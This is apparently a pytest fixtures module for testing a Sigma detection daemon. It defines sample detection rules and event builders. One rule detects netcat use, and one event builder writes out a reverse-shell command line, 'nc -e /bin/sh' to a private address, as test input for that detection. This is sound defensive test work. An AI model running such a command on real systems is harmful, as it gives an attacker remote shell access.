"""Fixtures for driving `rsigma engine daemon` as a real subprocess (tests.support.daemon).

`daemon(*args, ...)` starts the command with `--api-addr 127.0.0.1:0` (and `--reload-poll 0` unless the
test sets it), waits for the `daemon started` log line, and returns a `DaemonProcess` with the API base
URL and helpers (HTTP, metrics, stdout, logs, signals). Every process it started, matchers included, is
killed at teardown.

Every test that starts a daemon runs twice: `[workers0]` evaluates in the daemon's process, `[workers2]`
in a pool of two matcher processes (`--workers 2` is added unless the test gives `--workers`). A test
about one backend only is marked `single_backend` (tests/daemon/test_pool.py is, as a module).

stdout and stderr go to files in tmp_path (no pipe to drain, nothing to deadlock); stdin is a pipe the
test writes to (`send`, `close_stdin`), a bytes payload written at once, or a regular file.
"""

from __future__ import annotations

import json
import subprocess
import textwrap
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.support import DaemonProcess, Daemons, read_json_lines, wait_until

BACKENDS = (0, 2)

WHOAMI = """
title: Whoami
id: 11111111-1111-4111-8111-111111111111
level: high
logsource:
    product: test
detection:
    selection:
        CommandLine|contains: whoami
    condition: selection
"""

FAILED_LOGON = """
title: Failed logon
id: 22222222-2222-4222-8222-222222222222
name: failed_logon
level: low
logsource:
    product: test
detection:
    selection:
        EventID: 4625
    condition: selection
"""

BRUTE_FORCE = """
title: Brute force
id: 33333333-3333-4333-8333-333333333333
level: critical
correlation:
    type: event_count
    rules:
        - failed_logon
    group-by:
        - User
    timespan: 1h
    condition:
        gte: 3
"""

NETCAT = """
title: Netcat
id: 44444444-4444-4444-8444-444444444444
level: medium
logsource:
    product: test
detection:
    selection:
        CommandLine|contains: 'nc -e'
    condition: selection
"""


def rule_text(text: str) -> str:
    return textwrap.dedent(text).lstrip()


class Events:
    """Event builders shared by the tests (one JSON object per input line)."""

    @staticmethod
    def whoami(n: int = 0) -> dict[str, Any]:
        return {"CommandLine": f"cmd /c whoami #{n}", "seq": n}

    @staticmethod
    def netcat(n: int = 0) -> dict[str, Any]:
        return {"CommandLine": f"nc -e /bin/sh 10.0.0.{n}", "seq": n}

    @staticmethod
    def quiet(n: int = 0) -> dict[str, Any]:
        return {"CommandLine": "notepad.exe", "seq": n}

    @staticmethod
    def failed(user: str, minute: int) -> dict[str, Any]:
        return {"EventID": 4625, "User": user, "@timestamp": f"2024-01-01T00:{minute:02d}:00Z"}

    @staticmethod
    def line(event: dict[str, Any]) -> bytes:
        return json.dumps(event).encode() + b"\n"

    @classmethod
    def ndjson(cls, *events: dict[str, Any]) -> bytes:
        return b"".join(cls.line(e) for e in events)


def pytest_generate_tests(metafunc: pytest.Metafunc) -> None:
    """Every test that starts daemons runs against both evaluation backends: in process
    (`--workers 0`) and a matcher pool (`--workers 2`), unless it is marked `single_backend`."""
    if "daemon_workers" in metafunc.fixturenames and not metafunc.definition.get_closest_marker(
        "single_backend"
    ):
        metafunc.parametrize("daemon_workers", BACKENDS, ids=[f"workers{n}" for n in BACKENDS], indirect=True)


@pytest.fixture
def daemon_workers(request: pytest.FixtureRequest) -> int | None:
    """The `--workers` the fixtures add (None for a single_backend test: the test says, or in process)."""
    return getattr(request, "param", None)


@pytest.fixture
def daemons(tmp_path: Path, daemon_workers: int | None) -> Iterator[Daemons]:
    """The daemons of this test (files and working directory in tmp_path), all killed at teardown."""
    with Daemons(tmp_path, workers=daemon_workers) as started:
        yield started


@pytest.fixture
def daemon(daemons: Daemons) -> Callable[..., DaemonProcess]:
    """daemon(*args, stdin=None|bytes|Path, stdout="file"|"pipe", wait=True) -> DaemonProcess.

    stdin None keeps a pipe open for `send`; bytes are written and the pipe closed (EOF); a Path is
    opened as a regular file. wait=False returns before the 'daemon started' line (startup failures).
    """
    return daemons.start


@pytest.fixture
def run_daemon(daemons: Daemons) -> Callable[..., subprocess.CompletedProcess[str]]:
    """run_daemon(*args, stdin=b"", timeout=60) -> CompletedProcess: startup failures, EOF runs."""
    return daemons.run


@pytest.fixture
def ev() -> type[Events]:
    return Events


@pytest.fixture
def rules_dir(tmp_path: Path) -> Path:
    """A directory with the whoami rule, the failed-logon rule and the brute-force correlation."""
    d = tmp_path / "rules"
    d.mkdir()
    (d / "whoami.yml").write_text(rule_text(WHOAMI))
    (d / "failed_logon.yml").write_text(rule_text(FAILED_LOGON))
    (d / "brute_force.yml").write_text(rule_text(BRUTE_FORCE))
    return d


@pytest.fixture
def rules_file(tmp_path: Path) -> Path:
    """The same three documents in one multi-document file."""
    path = tmp_path / "rules.yml"
    path.write_text("---\n".join(rule_text(t) for t in (WHOAMI, FAILED_LOGON, BRUTE_FORCE)))
    return path


@pytest.fixture
def netcat_rule() -> str:
    return rule_text(NETCAT)


@pytest.fixture(name="wait_until")
def wait_until_fixture() -> Callable[..., Any]:
    """wait_until(predicate, what, timeout=10) -> the first truthy value of predicate()."""
    return wait_until


@pytest.fixture
def jsonl() -> Callable[[Path], list[Any]]:
    """jsonl(path) -> the complete JSON lines of a file the daemon writes (empty if it does not exist)."""
    return read_json_lines
